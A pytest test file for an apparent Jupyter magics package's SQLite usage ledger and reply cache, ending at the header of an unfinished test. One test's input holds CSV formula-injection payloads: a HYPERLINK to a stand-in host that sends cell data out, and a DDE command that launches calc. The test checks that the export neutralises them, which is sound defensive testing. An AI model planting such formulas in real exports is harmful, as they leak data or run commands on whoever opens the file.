"""The usage ledger and reply cache, on real SQLite files under a temporary ``O4_MAGICS_HOME``."""

from __future__ import annotations

import csv
import errno
import json
import os
import random
import re
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import textwrap
import threading
import time
import warnings
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest

from o4_magics.store.ledger import (
    CACHE_FILE,
    USAGE_FILE,
    Ledger,
    LedgerWarning,
    UsageRow,
    cache_key,
    default_home,
    to_timestamp,
)


@pytest.fixture
def home(tmp_path, monkeypatch):
    home = tmp_path / "o4home"
    monkeypatch.setenv("O4_MAGICS_HOME", str(home))
    return home


@pytest.fixture
def ledger(home):
    with Ledger() as ledger:
        yield ledger


def make_row(**changes) -> UsageRow:
    values = dict(
        notebook="analysis.ipynb",
        cell=12,
        thread="main",
        model="openai/o4-mini",
        provider="OpenAI",
        generation_id="gen-123",
        prompt_tokens=120,
        cached_tokens=0,
        completion_tokens=310,
        reasoning_tokens=192,
        images=0,
        cost_usd=0.0014960,
        cost_source="openrouter",
        latency_s=2.31,
        ttft_s=0.8,
        status="ok",
        error="",
        source="magic",
    )
    values.update(changes)
    return UsageRow(**values)


def run_python(code: str, home: Path, **popen) -> subprocess.Popen:
    env = {**os.environ, "O4_MAGICS_HOME": str(home)}
    return subprocess.Popen([sys.executable, "-c", textwrap.dedent(code)], env=env, **popen)


def count_rows(home: Path) -> int:
    with sqlite3.connect(home / USAGE_FILE, timeout=10) as db:
        return db.execute("SELECT COUNT(*) FROM usage").fetchone()[0]


# -- files, schema, permissions -------------------------------------------------------------------------------


def test_default_home_follows_env_then_jupyter_data_dir(tmp_path, monkeypatch):
    monkeypatch.setenv("O4_MAGICS_HOME", str(tmp_path / "mine"))
    assert default_home() == tmp_path / "mine"
    monkeypatch.delenv("O4_MAGICS_HOME")
    monkeypatch.setenv("JUPYTER_DATA_DIR", str(tmp_path / "jdata"))
    assert default_home() == tmp_path / "jdata" / "o4_magics"


def test_ledger_opens_lazily_and_import_is_cheap(home):
    Ledger()
    assert not home.exists()
    code = "import sys, o4_magics.store.ledger; print(sorted({'sqlite3', 'jupyter_core'} & set(sys.modules)))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "[]"


def normalized(sql: str | None) -> str | None:
    return " ".join(sql.split()) if sql else sql


def test_fresh_database_schema(ledger, home):
    ledger.record(make_row())
    ledger.cache_put("k", {"text": "hi"})
    with sqlite3.connect(home / USAGE_FILE) as db:
        schema = [
            (kind, name, normalized(sql))
            for kind, name, sql in db.execute("SELECT type, name, sql FROM sqlite_master ORDER BY type, name")
        ]
        migrations = [name for (name,) in db.execute("SELECT name FROM _o4_migrations ORDER BY rowid")]
        assert db.execute("PRAGMA user_version").fetchone() == (7,)
        assert db.execute("PRAGMA journal_mode").fetchone() == ("wal",)
    assert schema == [
        (
            "index",
            "reservations_notebook",
            "CREATE INDEX reservations_notebook ON reservations (notebook, expires_ts)",
        ),
        ("index", "sqlite_autoindex__o4_migrations_1", None),
        (
            "index",
            "usage_model_ts",
            "CREATE INDEX usage_model_ts ON usage (model, ts, cost_usd, prompt_tokens, cached_tokens, "
            "completion_tokens, reasoning_tokens)",
        ),
        (
            "index",
            "usage_notebook_ts",
            "CREATE INDEX usage_notebook_ts ON usage (notebook, ts, model, cost_usd, prompt_tokens, cached_tokens, "
            "completion_tokens, reasoning_tokens)",
        ),
        (
            "index",
            "usage_ts_keys",
            'CREATE INDEX usage_ts_keys ON usage (ts, "user", notebook, model, cost_usd, prompt_tokens, '
            "cached_tokens, completion_tokens, reasoning_tokens)",
        ),
        (
            "index",
            "usage_ts_sums",
            "CREATE INDEX usage_ts_sums ON usage (ts, cost_usd, prompt_tokens, cached_tokens, completion_tokens, "
            "reasoning_tokens)",
        ),
        ("index", "usage_uid", "CREATE UNIQUE INDEX usage_uid ON usage (uid)"),
        (
            "table",
            "_o4_migrations",
            "CREATE TABLE _o4_migrations (name TEXT PRIMARY KEY, applied_ts TEXT NOT NULL)",
        ),
        (
            "table",
            "outbox",
            "CREATE TABLE outbox (target TEXT NOT NULL, uid TEXT NOT NULL, PRIMARY KEY (target, uid)) WITHOUT ROWID",
        ),
        (
            "table",
            "reservations",
            normalized("""CREATE TABLE reservations ( id INTEGER PRIMARY KEY AUTOINCREMENT, notebook TEXT NOT NULL,
            amount_usd REAL NOT NULL, created_ts TEXT NOT NULL, expires_ts TEXT NOT NULL,
            pid INTEGER NOT NULL DEFAULT 0 , "user" TEXT NOT NULL DEFAULT '')"""),
        ),
        ("table", "sqlite_sequence", "CREATE TABLE sqlite_sequence(name,seq)"),
        (
            "table",
            "usage",
            normalized("""CREATE TABLE usage (
            id INTEGER PRIMARY KEY, ts TEXT NOT NULL, notebook TEXT NOT NULL, cell INTEGER,
            thread TEXT NOT NULL DEFAULT '', model TEXT NOT NULL DEFAULT '', provider TEXT NOT NULL DEFAULT '',
            generation_id TEXT NOT NULL DEFAULT '', prompt_tokens INTEGER NOT NULL DEFAULT 0,
            cached_tokens INTEGER NOT NULL DEFAULT 0, completion_tokens INTEGER NOT NULL DEFAULT 0,
            reasoning_tokens INTEGER NOT NULL DEFAULT 0, images INTEGER NOT NULL DEFAULT 0, cost_usd REAL,
            cost_source TEXT NOT NULL DEFAULT '', latency_s REAL, ttft_s REAL, status TEXT NOT NULL DEFAULT 'ok',
            error TEXT NOT NULL DEFAULT '', source TEXT NOT NULL DEFAULT '' , "user" TEXT NOT NULL DEFAULT '',
            uid TEXT)"""),
        ),
        (
            "table",
            "usage_rollup",
            normalized("""CREATE TABLE usage_rollup ( span TEXT NOT NULL, bucket TEXT NOT NULL, "user" TEXT NOT NULL,
            notebook TEXT NOT NULL, model TEXT NOT NULL, calls INTEGER NOT NULL DEFAULT 0,
            prompt_tokens INTEGER NOT NULL DEFAULT 0, cached_tokens INTEGER NOT NULL DEFAULT 0,
            completion_tokens INTEGER NOT NULL DEFAULT 0, reasoning_tokens INTEGER NOT NULL DEFAULT 0,
            cost_usd REAL NOT NULL DEFAULT 0, last_ts TEXT NOT NULL,
            PRIMARY KEY (span, bucket, "user", notebook, model) ) WITHOUT ROWID"""),
        ),
        ("trigger", "usage_rollup_insert", schema[-1][2]),  # what it does is tested in test_team_rollup.py
    ]
    assert migrations == [
        "m001_usage",
        "m002_usage_indexes",
        "m003_reservations",
        "m004_usage_ts_covering",
        "m005_reservation_ids_never_reused",
        "m006_usage_user",
        "m007_usage_rollup",
    ]
    with sqlite3.connect(home / CACHE_FILE) as db:
        tables = {name: normalized(sql) for name, sql in db.execute("SELECT name, sql FROM sqlite_master")}
    assert tables["cache"] == normalized("""CREATE TABLE cache ( key TEXT PRIMARY KEY, payload TEXT NOT NULL,
        created_ts TEXT NOT NULL, used_ts TEXT NOT NULL, hits INTEGER NOT NULL DEFAULT 0 ) WITHOUT ROWID""")


def test_reopening_applies_no_migration_twice(home):
    for _ in range(3):
        with Ledger() as ledger:
            ledger.record(make_row())
    with sqlite3.connect(home / USAGE_FILE) as db:
        assert db.execute("SELECT COUNT(*) FROM _o4_migrations").fetchone() == (7,)
    assert Ledger().totals()["calls"] == 3  # totals survive a kernel restart


def test_directory_and_files_are_private_even_with_a_permissive_umask(ledger, home):
    old_umask = os.umask(0)
    try:
        ledger.record(make_row())
        ledger.cache_put("k", {"text": "hi"})
    finally:
        os.umask(old_umask)
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    for name in (USAGE_FILE, CACHE_FILE):
        for suffix in ("", "-wal", "-shm"):
            assert stat.S_IMODE((home / f"{name}{suffix}").stat().st_mode) == 0o600, name + suffix


# -- recording and reading ------------------------------------------------------------------------------------


def test_record_returns_ids_and_fills_in_the_time(ledger):
    before = to_timestamp()
    row = make_row()
    first = ledger.record(row)
    assert first > 0 and row.id == first
    assert before <= row.ts <= to_timestamp()
    assert row.ts.endswith("Z") and len(row.ts) == len("2025-01-01T00:00:00.000000Z")
    assert ledger.record(make_row()) == first + 1


def test_totals_per_model_and_per_notebook_match_what_was_recorded(ledger):
    rnd = random.Random(4)
    rows = [
        make_row(
            notebook=f"nb{rnd.randrange(3)}.ipynb",
            model=rnd.choice(["openai/o4-mini", "openai/o4-mini-high"]),
            prompt_tokens=rnd.randrange(1000),
            cached_tokens=rnd.randrange(100),
            completion_tokens=rnd.randrange(900),
            reasoning_tokens=rnd.randrange(500),
            cost_usd=rnd.random() / 100,
        )
        for _ in range(60)
    ]
    rows.append(
        make_row(notebook="nb0.ipynb", cost_usd=None, status="error")
    )  # cost unknown: counts as a call
    for row in rows:
        ledger.record(row)

    def expected(selected):
        sums = {
            k: sum(getattr(r, k) for r in selected)
            for k in ("prompt_tokens", "cached_tokens", "completion_tokens", "reasoning_tokens")
        }
        return {
            "calls": len(selected),
            **sums,
            "cost_usd": pytest.approx(sum(r.cost_usd or 0 for r in selected)),
        }

    assert ledger.totals() == expected(rows)
    assert ledger.totals("nb1.ipynb") == expected([r for r in rows if r.notebook == "nb1.ipynb"])
    assert ledger.totals("never.ipynb") == {
        "calls": 0,
        "prompt_tokens": 0,
        "cached_tokens": 0,
        "completion_tokens": 0,
        "reasoning_tokens": 0,
        "cost_usd": 0.0,
    }

    by_model = ledger.per_model()
    assert [m["model"] for m in by_model] == sorted(
        {r.model for r in rows}, key=lambda m: -sum(r.cost_usd or 0 for r in rows if r.model == m)
    )
    for found in by_model:
        assert {k: v for k, v in found.items() if k != "model"} == expected(
            [r for r in rows if r.model == found["model"]]
        )
    assert sum(m["calls"] for m in ledger.per_model("nb2.ipynb")) == sum(
        r.notebook == "nb2.ipynb" for r in rows
    )

    by_notebook = ledger.per_notebook()
    assert by_notebook[0]["notebook"] == "nb0.ipynb"  # the last call
    for found in by_notebook:
        mine = [r for r in rows if r.notebook == found["notebook"]]
        assert found["calls"] == len(mine)
        assert found["cost_usd"] == pytest.approx(sum(r.cost_usd or 0 for r in mine))
        assert found["last_ts"] == max(r.ts for r in mine)


def test_since_filters_by_time_in_any_form(ledger):
    now = datetime.now(timezone.utc)
    for days_ago in (10, 5, 1, 0):
        ledger.record(make_row(ts=now - timedelta(days=days_ago), cost_usd=float(days_ago)))
    cutoff = now - timedelta(days=6)
    for since in (cutoff, cutoff.isoformat(), cutoff.timestamp(), to_timestamp(cutoff), cutoff.astimezone()):
        assert ledger.totals(since=since)["calls"] == 3
        assert ledger.totals(since=since)["cost_usd"] == 6.0
    assert ledger.per_model(since=now + timedelta(seconds=1)) == []
    assert ledger.per_notebook(since=now - timedelta(days=2))[0]["calls"] == 2


@pytest.fixture
def local_zone(monkeypatch):
    """Set the process's local time zone (POSIX TZ text, no zone database needed) for one test."""

    def use(zone: str) -> None:
        monkeypatch.setenv("TZ", zone)
        time.tzset()

    yield use
    monkeypatch.undo()
    time.tzset()


FIRST, LAST = "0001-01-01T00:00:00.000000Z", "9999-12-31T23:59:59.999999Z"


@pytest.mark.parametrize("zone", ["UTC0", "JST-9", "EST+5"])
def test_times_from_year_1_to_9999_in_any_zone(local_zone, zone):
    local_zone(zone)
    years = ["0001-01-01", "0001-01-02", "0999-06-30T12:00", "2024-01-01", "9999-12-30", "9999-12-31T23:59"]
    stamps = [to_timestamp(text) for text in years]
    assert stamps == sorted(stamps) and all(len(stamp) == len(FIRST) for stamp in stamps)
    assert stamps[0].startswith("0001-01-01T") and stamps[-1].startswith("9999-12-31T")
    assert to_timestamp("0001-01-01T00:00+05:00") == FIRST  # before year 1 in UTC: the first moment
    assert to_timestamp("9999-12-31T23:00-05:00") == LAST
    assert to_timestamp("0001-01-01T00:00Z") == to_timestamp("0001-01-01T00:00:00+00:00") == FIRST
    assert to_timestamp(datetime.min) >= FIRST and to_timestamp(datetime.max) <= LAST
    assert to_timestamp(datetime(1, 1, 1, tzinfo=timezone.utc).date()).startswith("0001-01-01T")
    assert (to_timestamp(-1e300), to_timestamp(1e300)) == (FIRST, LAST)
    assert to_timestamp("2024-06-01T12:00+02:00") == "2024-06-01T10:00:00.000000Z"


def test_since_year_1_counts_every_call(ledger):
    ledger.record(make_row(ts="0001-01-01T00:00:00Z"))
    ledger.record(make_row())
    assert ledger.totals(since="0001-01-01")["calls"] == 2
    assert ledger.totals(since="9999-12-31")["calls"] == 0


@pytest.mark.parametrize(
    ("text", "reason"),
    [("2024-13-45", "month must be in 1..12"), ("2024-02-30", "day is out of range"), ("soon", "isoformat")],
)
def test_non_dates_say_why(text, reason):
    with pytest.raises(ValueError, match=re.escape(reason)):
        to_timestamp(text)


def test_recent_is_newest_first_and_round_trips_every_field(ledger):
    for cell in range(15):
        ledger.record(make_row(cell=cell, notebook="a.ipynb" if cell % 2 else "b.ipynb"))
    newest = ledger.recent()
    assert [r.cell for r in newest] == list(range(14, 4, -1))
    assert [r.cell for r in ledger.recent("a.ipynb", limit=3)] == [13, 11, 9]
    assert ledger.recent("c.ipynb") == []
    original = make_row(cell=None, ttft_s=None, error="boom", status="error", source="chat", thread="t2")
    ledger.record(original)
    assert ledger.recent(limit=1) == [original]


def test_values_of_other_numeric_types_are_stored_plainly(ledger):
    np = pytest.importorskip("numpy")
    row = make_row(
        cell=np.int64(3), prompt_tokens=np.int64(10), cost_usd=Decimal("0.25"), latency_s=np.float32(1.5)
    )
    assert ledger.record(row) > 0 and ledger.pending == []
    assert ledger.totals() == {
        "calls": 1,
        "prompt_tokens": 10,
        "cached_tokens": 0,
        "completion_tokens": 310,
        "reasoning_tokens": 192,
        "cost_usd": 0.25,
    }
    stored = ledger.recent(limit=1)[0]
    assert (stored.cell, stored.latency_s, type(stored.prompt_tokens)) == (3, 1.5, int)


def test_long_error_text_is_truncated(ledger):
    ledger.record(make_row(error="x" * 10_000, status="error"))
    assert len(ledger.recent(limit=1)[0].error) == 2000


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8-sig") as exported:
        return list(csv.DictReader(exported))


def test_export_csv(ledger, tmp_path):
    for cell in range(5):
        ledger.record(make_row(cell=cell, notebook="x.ipynb" if cell < 3 else "y.ipynb", error='a,b\n"c"'))
    out = tmp_path / "usage.csv"
    assert ledger.export_csv(out, notebook="x.ipynb") == 3
    rows = read_csv(out)
    assert [r["cell"] for r in rows] == ["0", "1", "2"]
    assert rows[0]["notebook"] == "x.ipynb" and rows[0]["error"] == 'a,b\n"c"'
    assert rows[0]["cost_usd"] == "0.001496" and rows[0]["model"] == "openai/o4-mini"
    assert list(rows[0]) == [*(f for f in UsageRow.__dataclass_fields__ if f != "id"), "id"]
    assert ledger.export_csv(out) == 5
    assert ledger.export_csv(out, since=datetime.now(timezone.utc) + timedelta(hours=1)) == 0


def test_export_csv_is_utf8_with_a_byte_order_mark_for_excel(ledger, tmp_path):
    ledger.record(make_row(notebook="/home/jürgen/Übersicht.ipynb", thread="größe"))
    out = tmp_path / "usage.csv"
    ledger.export_csv(out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfnotebook,")  # Excel reads UTF-8 only with the BOM, else "Ã¼"
    assert "Übersicht".encode() in raw
    (row,) = read_csv(out)
    assert row["notebook"] == "/home/jürgen/Übersicht.ipynb" and row["thread"] == "größe"


FORMULAS = {
    "thread": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "model": "@preset/my-o4",
    "provider": "+cmd|' /C calc'!A0",
    "generation_id": "-2+3",
    "error": "\t=1+1",
    "source": "\r=1+1",
    "notebook": "\n=2*3",
}


def test_export_csv_neutralises_formulas_but_keeps_numbers(ledger, tmp_path):
    ledger.record(make_row(**FORMULAS, cost_usd=-0.5, prompt_tokens=-3, latency_s=-1.25, cell=-1))
    ledger.record(make_row(thread="a=b", model="openai/o4-mini", error="1 - 2", notebook="plain.ipynb"))
    out = tmp_path / "usage.csv"
    ledger.export_csv(out)
    dangerous, plain = read_csv(out)
    for name, text in FORMULAS.items():
        assert dangerous[name] == "'" + text, name  # a spreadsheet shows the text, runs nothing
    numbers = (dangerous["cost_usd"], dangerous["prompt_tokens"], dangerous["latency_s"], dangerous["cell"])
    assert numbers == ("-0.5", "-3", "-1.25", "-1")  # still numbers: no quote in front
    assert (plain["thread"], plain["model"], plain["error"]) == ("a=b", "openai/o4-mini", "1 - 2")
    assert ledger.recent(limit=2)[1].thread == FORMULAS["thread"]  # the ledger itself keeps the text as is


def test_threads_sharing_one_ledger_lose_nothing(ledger):
    def work():
        for _ in range(50):
            ledger.record(make_row())

    workers = [threading.Thread(target=work) for _ in range(4)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    assert ledger.totals()["calls"] == 200


def traced_selects(ledger: Ledger, action) -> list[str]:
    """Every SELECT the ledger's connection runs during ``action()``, with its parameters filled in."""
    db = ledger._db(USAGE_FILE)
    seen: list[str] = []
    db.set_trace_callback(seen.append)
    try:
        action()
    finally:
        db.set_trace_callback(None)
    return [sql for sql in dict.fromkeys(seen) if sql.lstrip().upper().startswith("SELECT")]


def query_plan(ledger: Ledger, sql: str) -> list[str]:
    return [step[-1] for step in ledger._db(USAGE_FILE).execute(f"EXPLAIN QUERY PLAN {sql}")]


def plan_problems(sql: str, plan: list[str]) -> list[str]:
    """What is wrong with how ``sql`` reads the usage table: a table scan, row lookups for a sum, a full sort.

    Totals over every notebook read ``usage_rollup`` (daily and monthly sums) by its primary key, plus the rows
    of a partial first day from a covering index.
    """
    problems = []
    rollup = [step for step in plan if re.search(r"\b(SCAN|SEARCH) usage_rollup\b", step)]
    if any(not step.startswith("SEARCH usage_rollup USING PRIMARY KEY (span=?") for step in rollup):
        problems.append("reads the rollup without its key")
    reads = [step for step in plan if re.search(r"\b(SCAN|SEARCH) usage\b", step)]
    if (not reads and not rollup) or any("INDEX" not in step for step in reads):
        problems.append("reads the table without an index")
    aggregate = "LIMIT" not in sql
    if aggregate and any("COVERING INDEX" not in step for step in reads):
        problems.append("sums by looking up rows: no covering index")
    by_notebook = re.search(r"WHERE notebook = '[^']*'( AND ts >=)?", sql)
    if by_notebook:
        wanted = "(notebook=? AND ts>?)" if by_notebook.group(1) else "(notebook=?)"
        if not any(
            step.startswith("SEARCH usage") and f"usage_notebook_ts {wanted}" in step for step in reads
        ):
            problems.append(f"does not search usage_notebook_ts {wanted}")
    elif aggregate and "WHERE ts >=" in sql and "GROUP BY" not in sql:
        if reads and not any("usage_ts_sums (ts>?" in step for step in reads):
            problems.append("does not search usage_ts_sums (ts>?)")
    if not aggregate and "USE TEMP B-TREE FOR ORDER BY" in plan:
        problems.append("sorts every matching row to find the last few")
    return problems


def test_the_queries_the_panel_runs_use_covering_indexes(ledger):
    """EXPLAIN QUERY PLAN of the SQL the ledger really executes for the panel and the budget, in every scope."""
    from o4_magics.store.ledger import _insert
    from o4_magics.widgets.usage_tables import gather

    rnd = random.Random(1)
    start = datetime(2025, 1, 1, tzinfo=timezone.utc)
    rows = [
        make_row(notebook=f"nb{rnd.randrange(20)}", model=rnd.choice("abc"), ts=start + timedelta(seconds=i))
        for i in range(20_000)
    ]
    _insert(ledger._db(USAGE_FILE), rows)
    cutoff = to_timestamp(start + timedelta(hours=3))
    kinds = {  # what each of the ledger's reads looks like
        "per_model": "GROUP BY model",
        "per_notebook": "GROUP BY notebook",
        "recent": "LIMIT",
        "totals": "SELECT COUNT(*)",
    }
    seen_kinds, problems = set(), {}
    for all_notebooks in (False, True):
        for since in (None, cutoff):
            scope = ("all" if all_notebooks else "nb1") + (" since" if since else "")
            selects = traced_selects(
                ledger, lambda a=all_notebooks, s=since: gather(ledger, "nb1", a, s, 1.0)
            )
            found = {kind for kind, mark in kinds.items() for sql in selects if mark in sql}
            assert found == set(kinds) - ({"per_notebook"} if not all_notebooks else set()), (scope, selects)
            seen_kinds |= {(scope, kind) for kind in found}
            for sql in selects:
                plan = query_plan(ledger, sql)
                if plan_problems(sql, plan):
                    problems[(scope, sql)] = (plan_problems(sql, plan), plan)
    budget = traced_selects(ledger, lambda: ledger.reserve("nb1", 0.01, 1e9, 60))
    assert budget and all("FROM usage WHERE notebook" in sql or "reservations" in sql for sql in budget)
    for sql in budget:
        if "FROM usage" in sql and plan_problems(sql, query_plan(ledger, sql)):
            problems[("reserve", sql)] = (
                plan_problems(sql, query_plan(ledger, sql)),
                query_plan(ledger, sql),
            )
    assert len(seen_kinds) == 14
    assert problems == {}
    # timings live in benchmarks/bench_ledger.py; here only the plans, which do not depend on the machine
    assert ledger.totals()["calls"] == 20_000


def test_plan_checks_catch_a_table_scan():
    """The checker itself: a scan, a non-covering sum and a full sort are each reported."""
    assert plan_problems("SELECT COUNT(*) FROM usage", ["SCAN usage"]) == [
        "reads the table without an index",
        "sums by looking up rows: no covering index",
    ]
    assert plan_problems(
        "SELECT COUNT(*) FROM usage WHERE notebook = 'a'",
        ["SEARCH usage USING INDEX usage_notebook_ts (notebook=?)"],
    ) == ["sums by looking up rows: no covering index"]
    assert plan_problems(
        "SELECT x FROM usage ORDER BY ts DESC LIMIT 10",
        ["SCAN usage USING INDEX usage_ts_sums", "USE TEMP B-TREE FOR ORDER BY"],
    ) == ["sorts every matching row to find the last few"]
    assert plan_problems("SELECT SUM(calls) FROM usage_rollup", ["SCAN usage_rollup"]) == [
        "reads the rollup without its key"
    ]


def test_upgrading_a_version_3_ledger_keeps_rows_and_holds(home):
    from o4_magics.store.schema import USAGE_MIGRATIONS, migrate

    home.mkdir()
    with sqlite3.connect(home / USAGE_FILE, isolation_level=None) as db:
        migrate(db, USAGE_MIGRATIONS[:3])
        db.execute(
            "INSERT INTO usage (ts, notebook, cost_usd) VALUES ('2025-01-01T00:00:00.000000Z', 'a', 0.5)"
        )
        db.execute(
            "INSERT INTO reservations (notebook, amount_usd, created_ts, expires_ts) VALUES (?, ?, ?, ?)",
            ("a", 2.0, to_timestamp(), "9999-01-01T00:00:00.000000Z"),
        )
    with Ledger() as ledger:
        assert ledger.totals("a")["cost_usd"] == 0.5
        held = ledger.reserve("a", 1.0, 10.0, ttl_s=60)
        assert held.granted and held.held_usd == 2.0 and held.id == 2
    with sqlite3.connect(home / USAGE_FILE) as db:
        indexes = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'index'")}
        assert {"usage_ts_sums", "reservations_notebook"} <= indexes and "usage_ts" not in indexes
        assert db.execute("PRAGMA user_version").fetchone() == (7,)
        assert (
            "AUTOINCREMENT"
            in db.execute("SELECT sql FROM sqlite_master WHERE name = 'reservations'").fetchone()[0]
        )


# -- cache ----------------------------------------------------------------------------------------------------

REQUEST = {
    "model": "openai/o4-mini",
    "messages": [
        {
            "role": "user",
            "content": [
                {"type": "text", "text": "hi"},
                {"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}},
            ],
        }
    ],
    "reasoning": {"effort": "medium"},
}


def test_cache_roundtrip_and_hits(ledger, home):
    key = cache_key(REQUEST)
    assert ledger.cache_get(key) is None
    payload = {"text": "héllo **world**", "usage": {"prompt_tokens": 3}, "generation_id": "gen-1"}
    ledger.cache_put(key, payload)
    assert ledger.cache_get(key) == payload
    ledger.cache_put(key, {"text": "newer"})
    assert ledger.cache_get(key) == {"text": "newer"}
    with sqlite3.connect(home / CACHE_FILE) as db:
        assert db.execute("SELECT hits FROM cache").fetchall() == [(1,)]
    assert Ledger().cache_get(key) == {"text": "newer"}  # another process sees it
    assert ledger.cache_clear() == 1 and ledger.cache_get(key) is None


def test_cache_key_is_stable_and_sensitive():
    key = cache_key(REQUEST)
    assert len(key) == 64 and key == cache_key(REQUEST)
    reordered = {
        "reasoning": {"effort": "medium"},
        "messages": REQUEST["messages"],
        "model": "openai/o4-mini",
    }
    assert cache_key(reordered) == key
    subprocess_key = subprocess.run(
        [
            sys.executable,
            "-c",
            f"from o4_magics.store.ledger import cache_key; print(cache_key({REQUEST!r}))",
        ],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    assert subprocess_key == key  # stable across processes (no hash randomisation)

    def changed(**kw):
        return cache_key({**REQUEST, **kw})

    other_text = [
        {"role": "user", "content": [{"type": "text", "text": "hi!"}, REQUEST["messages"][0]["content"][1]]}
    ]
    other_image = [
        {
            "role": "user",
            "content": [
                REQUEST["messages"][0]["content"][0],
                {"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAB"}},
            ],
        }
    ]
    variants = {
        changed(model="openai/o4-mini-high"),
        changed(messages=other_text),
        changed(messages=other_image),
        changed(reasoning={"effort": "high"}),
        changed(max_tokens=100),
    }
    assert len(variants) == 5 and key not in variants
    assert (
        cache_key({"image": b"\x89PNG1"})
        == cache_key({"image": b"\x89PNG1"})
        != cache_key({"image": b"\x89PNG2"})
    )
    with pytest.raises(TypeError):
        cache_key({"x": object()})


# -- robustness -----------------------------------------------------------------------------------------------


def test_corrupt_ledger_keeps_rows_in_memory_and_writes_them_later(home):
    home.mkdir(mode=0o700)
    (home / USAGE_FILE).write_bytes(b"this is not a database, " * 200)
    ledger = Ledger()
    with pytest.warns(LedgerWarning, match="usage ledger .* cannot be used: the file is damaged"):
        assert ledger.record(make_row(cost_usd=0.5)) == -1
    assert len(ledger.pending) == 1
    with pytest.warns(LedgerWarning):
        assert ledger.totals()["cost_usd"] == 0.5  # figures still cover this session
    with pytest.warns(LedgerWarning):
        assert [r.cost_usd for r in ledger.recent()] == [0.5]

    (home / USAGE_FILE).rename(home / "usage.sqlite.damaged")  # what the warning tells the user to do
    assert ledger.record(make_row(cost_usd=0.25)) > 0
    assert ledger.pending == []
    assert ledger.totals()["calls"] == 2 and ledger.totals()["cost_usd"] == 0.75


def test_corrupt_cache_is_a_miss_not_an_error(ledger, home):
    home.mkdir(mode=0o700)
    (home / CACHE_FILE).write_bytes(b"junk" * 1000)
    with pytest.warns(LedgerWarning, match="reply cache"):
        ledger.cache_put("k", {"text": "x"})
    with pytest.warns(LedgerWarning):
        assert ledger.cache_get("k") is None
    assert ledger.record(make_row()) > 0  # the ledger file is unaffected


def _home_is_a_file(home: Path) -> None:
    home.write_text("not a directory")


def _database_is_a_directory(home: Path) -> None:
    (home / USAGE_FILE).mkdir(parents=True)


@pytest.mark.parametrize("break_home", [_home_is_a_file, _database_is_a_directory])
def test_unusable_home_keeps_rows_in_memory(home, break_home):
    break_home(home)
    ledger = Ledger()
    with pytest.warns(LedgerWarning):
        assert ledger.record(make_row()) == -1
    with pytest.warns(LedgerWarning):
        assert ledger.record(make_row()) == -1
    assert len(ledger.pending) == 2
    with pytest.warns(LedgerWarning):
        assert ledger.totals()["calls"] == 2
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", LedgerWarning)
        assert ledger.cache_get("k") is None


READ_ONLY_USER = """
    import json, warnings
    from o4_magics.store.ledger import Ledger, UsageRow
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        ledger = Ledger()
        ids = [ledger.record(UsageRow(notebook="ro.ipynb", cost_usd=0.5)) for _ in range(2)]
        calls = ledger.totals()["calls"]
    warned = [w.category.__name__ for w in caught]
    texts = [str(w.message) for w in caught]
    print(json.dumps({"ids": ids, "pending": len(ledger.pending), "calls": calls, "warnings": warned, "texts": texts}))
"""


def run_without_root_powers(code: str, home: Path) -> dict:
    """Run ``code`` where file permissions bind: as is, or for root without the capabilities that bypass them."""
    command = [sys.executable, "-c", textwrap.dedent(code)]
    if os.geteuid() == 0:
        if not shutil.which("setpriv"):
            pytest.skip("root ignores permissions and setpriv is missing")
        caps = "-dac_override,-dac_read_search,-fowner"
        command = ["setpriv", f"--bounding-set={caps}", f"--inh-caps={caps}", *command]
    done = subprocess.run(
        command, env={**os.environ, "O4_MAGICS_HOME": str(home)}, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@pytest.mark.parametrize("existing", [False, True], ids=["new", "existing"])
def test_read_only_home_keeps_rows_in_memory(home, existing):
    if existing:
        with Ledger() as ledger:
            ledger.record(make_row())
        for path in home.iterdir():
            path.chmod(0o400)
    else:
        home.mkdir()
    home.chmod(0o500)
    try:
        result = run_without_root_powers(READ_ONLY_USER, home)
    finally:
        home.chmod(0o700)
    assert result["ids"] == [-1, -1] and result["pending"] == 2
    assert result["calls"] == 2 + existing  # a readable file still counts, with the rows kept in memory
    assert "LedgerWarning" in result["warnings"]
    first = result["texts"][0]
    blocked = home / USAGE_FILE if existing else home
    assert f"{blocked} is read-only for this user (permission denied)" in first, first
    assert "chmod u+rw" in first and "O4_MAGICS_HOME" in first
    assert "damaged" not in first and "move it aside" not in first.lower()


# -- what a LedgerWarning says, by cause ------------------------------------------------------------------------


def first_warning(action) -> str:
    with pytest.warns(LedgerWarning) as caught:
        action()
    return str(caught[0].message)


def fill_pages(ledger: Ledger) -> None:
    """Record until SQLite reports the database full (a page cap stands in for a full disk: SQLITE_FULL)."""
    ledger.record(make_row())
    db = ledger._db(USAGE_FILE)
    (pages,) = db.execute("PRAGMA page_count").fetchone()
    db.execute(f"PRAGMA max_page_count = {pages + 2}")
    for _ in range(200):
        if ledger.record(make_row(error="x" * 2000)) == -1:
            return


def damage_pages(home: Path) -> None:
    """Overwrite the usage table's root page: "database disk image is malformed"."""
    with Ledger() as ledger:
        for _ in range(300):
            ledger.record(make_row(error="x" * 500))
    with sqlite3.connect(home / USAGE_FILE) as db:
        (root,) = db.execute("SELECT rootpage FROM sqlite_master WHERE name = 'usage'").fetchone()
        (size,) = db.execute("PRAGMA page_size").fetchone()
    with open(home / USAGE_FILE, "r+b") as file:
        file.seek((root - 1) * size)
        file.write(bytes([0x0D, 0xFF, 0xFF]) + os.urandom(size - 3))


def test_warning_home_is_a_file(home):
    home.write_text("not a directory")
    text = first_warning(lambda: Ledger().record(make_row()))
    assert f"cannot be used: {home} is a file, not a directory" in text
    assert "Move that file away, or set O4_MAGICS_HOME to a directory." in text and "damaged" not in text


def test_warning_ledger_is_a_directory(home):
